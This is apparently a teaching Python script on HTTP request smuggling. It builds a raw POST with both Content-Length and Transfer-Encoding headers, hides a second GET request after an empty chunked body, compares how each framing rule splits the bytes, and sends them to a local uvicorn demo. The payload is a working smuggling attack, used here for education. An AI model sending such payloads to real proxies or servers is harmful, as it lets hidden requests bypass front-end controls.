"""Request smuggling in miniature: one message that two parsers split differently.

The request below carries both Content-Length and Transfer-Encoding: chunked. Framed by its
Content-Length it is one POST whose body runs to the end. Framed by Transfer-Encoding (which
RFC 9112 §6.3 says wins) its body is the empty chunked body `0\\r\\n\\r\\n`, and the bytes after
it are a second, hidden request. When a proxy frames by one rule and the server behind it by
the other, the hidden request reaches the server without the proxy ever seeing it.

RFC 9112 §6.1 lets a server reject such a request, or process it by Transfer-Encoding alone,
but in both cases it MUST close the connection afterwards. This file sends the bytes to
uvicorn with each of its two HTTP parsers and counts the responses.

Run it:  python smuggling.py
Try:     swap the order of the two fields; drop `Connection: close` from the hidden request
         (with h11, what happens to the connection then?).
"""

from __future__ import annotations

import h11

from onthewire.serving import serving_asgi
from snippets.http import rawhttp
from snippets.http.demo_app import app

# --8<-- [start:attack]
HIDDEN = (b"GET /echo?smuggled=yes HTTP/1.1\r\n"
          b"Host: demo.test\r\nConnection: close\r\n\r\n")
BODY = b"0\r\n\r\n" + HIDDEN  # an empty chunked body, then more bytes
ATTACK = (
    b"POST /echo HTTP/1.1\r\n"
    b"Host: demo.test\r\n"
    b"Content-Length: " + str(len(BODY)).encode() + b"\r\n"  # all of BODY
    b"Transfer-Encoding: chunked\r\n"                         # only 0 CRLF CRLF
    b"\r\n"
    + BODY
)
# --8<-- [end:attack]


def requests_by_content_length(data: bytes) -> list[bytes]:
    """The request lines a parser that trusts Content-Length finds in the bytes."""
    lines = []
    while data:
        head, _, rest = data.partition(b"\r\n\r\n")
        fields = dict(line.split(b": ", 1) for line in head.split(b"\r\n")[1:])
        lines.append(head.split(b"\r\n")[0])
        data = rest[int(fields.get(b"Content-Length", b"0")):]
    return lines


def requests_by_transfer_encoding(data: bytes) -> list[bytes]:
    """Ask h11, which frames by Transfer-Encoding when both fields are present."""
    server = h11.Connection(our_role=h11.SERVER)
    server.receive_data(data)
    lines = []
    while True:
        event = server.next_event()
        if isinstance(event, h11.Request):
            lines.append(event.method + b" " + event.target + b" HTTP/" + event.http_version)
        elif isinstance(event, h11.EndOfMessage):
            server.send(h11.Response(status_code=204, headers=[]))  # h11 wants an answer first
            server.send(h11.EndOfMessage())
            if server.our_state is h11.MUST_CLOSE:
                return lines
            server.start_next_cycle()
        elif event is h11.NEED_DATA:
            return lines


def responses_from(url: str) -> list[rawhttp.Response]:
    # --8<-- [start:send]
    with rawhttp.connect(url) as sock:
        reader = rawhttp.Reader(sock)
        sock.sendall(ATTACK)
        responses = [rawhttp.read_response(reader)]
        while not reader.closed_by_server():  # until the server closes
            responses.append(rawhttp.read_response(reader))
    # --8<-- [end:send]
    return responses


def main() -> None:
    print("== the bytes")
    rawhttp.show(ATTACK, "> ")

    print("\n== the requests in them")
    for framing, split in (("Content-Length", requests_by_content_length),
                           ("Transfer-Encoding", requests_by_transfer_encoding)):
        print(f"framed by {framing}:")
        for line in split(ATTACK):
            print("  " + line.decode())

    print("\n== what uvicorn answers")
    for parser in ("httptools", "h11"):
        with serving_asgi(app, http=parser, log_level="error") as url:
            responses = responses_from(url)
        print(f"uvicorn --http {parser}: {len(responses)} response(s), then the connection closed")
        for response in responses:
            print(f"  {response.status} {response.reason}: {response.body!r}")


if __name__ == "__main__":
    main()
